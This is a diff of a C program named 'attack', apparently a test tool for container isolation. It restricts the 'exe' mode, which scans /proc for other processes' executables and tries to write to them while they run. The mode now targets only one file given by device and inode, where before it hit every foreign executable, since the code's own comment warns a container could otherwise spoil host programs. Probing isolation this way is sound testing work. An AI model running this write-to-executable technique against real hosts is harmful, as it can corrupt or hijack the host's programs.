@@ -85,14 +85,17 @@ static int write_to(int fd)
 	return r;
 }
 
-/* exe SECONDS OWN...: keeps every executable of other processes by O_PATH and
- * tries to write to it, while it runs and after. OWN are inodes not to spoil. */
-static int exe(double end, char **own, int n)
+/* exe SECONDS DEVICE:INODE: keeps that file by O_PATH wherever a process executes
+ * it, and tries to write to it, while it runs and after. Never another file: with
+ * such capabilities a container can spoil the programs of the host. */
+static int exe(double end, const char *victim)
 {
 	static int kept[MAX_KEPT];
-	static ino_t inode[MAX_KEPT];
+	unsigned long dev, ino;
 	int k = 0, wrote = 0;
 
+	if (sscanf(victim, "%lu:%lu", &dev, &ino) != 2)
+		return 1;
 	while (now() < end) {
 		DIR *d = opendir("/proc");
 		struct dirent *e;
@@ -100,7 +103,7 @@ static int exe(double end, char **own, int n)
 		while (d && (e = readdir(d))) {
 			char path[300];
 			struct stat st;
-			int fd, pid = number(e->d_name), known = 0;
+			int fd, pid = number(e->d_name);
 
 			if (pid <= 0 || pid == getpid())
 				continue;
@@ -111,16 +114,11 @@ static int exe(double end, char **own, int n)
 					close(fd);
 				continue;
 			}
-			for (int i = 0; i < n; i++)
-				known |= (ino_t)strtoull(own[i], NULL, 10) == st.st_ino;
-			for (int i = 0; i < k; i++)
-				known |= inode[i] == st.st_ino && i + 200 < k;
-			if (known || k == MAX_KEPT) {
+			if (st.st_dev != dev || st.st_ino != ino || k == MAX_KEPT) {
 				close(fd);
 				continue;
 			}
 			wrote += write_to(fd);
-			inode[k] = st.st_ino;
 			kept[k++] = fd;
 		}
 		if (d)
@@ -199,13 +197,13 @@ int main(int argc, char **argv)
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc > 4 && !strcmp(argv[1], "swap"))
 		return swap(end, argv + 3, argc - 3);
-	if (argc > 2 && !strcmp(argv[1], "exe"))
-		return exe(end, argv + 3, argc - 3);
+	if (argc > 3 && !strcmp(argv[1], "exe"))
+		return exe(end, argv[3]);
 	if (argc > 3 && !strcmp(argv[1], "fds"))
 		return fds(end, argv[3]);
 	if (argc > 1 && !strcmp(argv[1], "sti"))
 		return sti();
 	fprintf(stderr, "usage: attack swap SECONDS A B... | "
-			"exe SECONDS INODE... | fds SECONDS FILE | sti\n");
+			"exe SECONDS DEVICE:INODE | fds SECONDS FILE | sti\n");
 	return 2;
 }
